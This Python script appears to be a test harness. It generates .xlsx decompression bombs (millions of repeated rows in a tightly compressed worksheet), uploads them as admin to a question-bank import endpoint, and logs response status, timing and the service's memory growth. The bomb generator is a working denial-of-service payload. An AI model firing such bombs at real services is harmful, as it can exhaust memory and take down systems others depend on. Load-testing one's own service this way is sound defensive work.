#!/usr/bin/env python3
"""Uploads .xlsx decompression bombs to POST /api/admin/bank/import as the admin; prints size, time, status, answer
size and the service's resident memory (VmRSS of PID) before and after each. Standard library only.

usage: import_bomb.py URL ADMIN_PASSWORD PID [ROWS ...]   (default rows: 4000000 400000)
"""
import http.client
import io
import json
import sys
import time
import uuid
import zipfile
from urllib.parse import urlparse

url = urlparse(sys.argv[1])
password, pid = sys.argv[2], int(sys.argv[3])
row_counts = [int(r) for r in sys.argv[4:]] or [4_000_000, 400_000]

PARTS = {
    "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}


def bomb(rows):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, text in PARTS.items():
            z.writestr(name, text)
        with z.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            sheet.write(b'<row><c t="inlineStr"><is><t>id</t></is></c><c t="inlineStr"><is><t>question</t></is></c><c t="inlineStr"><is><t>answer</t></is></c></row>')
            row = b'<row><c t="inlineStr"><is><t>x</t></is></c><c t="inlineStr"><is><t>q</t></is></c></row>'
            chunk = row * 10_000
            for _ in range(rows // 10_000):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def rss_mb():
    with open(f"/proc/{pid}/status") as status:
        return next(int(l.split()[1]) for l in status if l.startswith("VmRSS")) / 1024


def request(method, path, body=None, headers=None):
    conn = http.client.HTTPConnection(url.hostname, url.port, timeout=120)
    conn.request(method, path, body, headers or {})
    response = conn.getresponse()
    return response, response.read()


response, _ = request("POST", "/api/agents/login", json.dumps({"username": "admin", "password": password}), {"Content-Type": "application/json"})
cookie = response.getheader("Set-Cookie").split(";")[0]
for rows in row_counts:
    data = bomb(rows)
    boundary = uuid.uuid4().hex
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"bomb.xlsx\"\r\n"
            f"Content-Type: application/octet-stream\r\n\r\n").encode() + data + f"\r\n--{boundary}--\r\n".encode()
    before = rss_mb()
    started = time.perf_counter()
    response, answer = request("POST", "/api/admin/bank/import", body,
                               {"Content-Type": f"multipart/form-data; boundary={boundary}", "Cookie": cookie})
    elapsed = time.perf_counter() - started
    detail = json.loads(answer)["errors"][0]["message"] if response.status == 400 else answer[:200]
    print(f"{rows:>9,} rows, {len(data) / 1024:,.0f} KB: {response.status} in {elapsed:.2f} s, answer {len(answer):,} bytes, "
          f"RSS {before:.0f} → {rss_mb():.0f} MB; {detail}")
